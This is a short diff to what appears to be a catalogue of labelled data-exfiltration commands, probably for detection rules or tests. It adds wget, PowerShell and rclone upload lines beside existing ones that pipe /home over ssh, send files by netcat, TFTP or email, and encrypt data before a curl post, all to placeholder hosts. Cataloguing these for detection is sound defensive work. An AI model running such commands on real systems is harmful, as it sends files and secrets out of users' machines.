@@ -98,6 +98,9 @@ ftp-upload: tftp 192.0.2.4 put x
 smtp-exfiltration: Send-MailMessage -To a@example.test -Attachments x
 ssh-exfiltration: tar czf - /home | ssh bob@host.example.test 'cat > x'
 https-exfiltration: curl --upload-file x https://example.test/
+https-post: wget --post-data="a=1" https://example.test/
+script-upload: Invoke-WebRequest -Uri http://example.test -Method Put -InFile C:\x
+rclone-ftp: rclone config create a ftp host ftp.example.test
 symmetric-exfiltration: openssl enc -aes256 -in x | curl -d @- y
 netcat-exfiltration: cat x | nc 192.0.2.4 4444
 http-server-share: python3 -m http.server
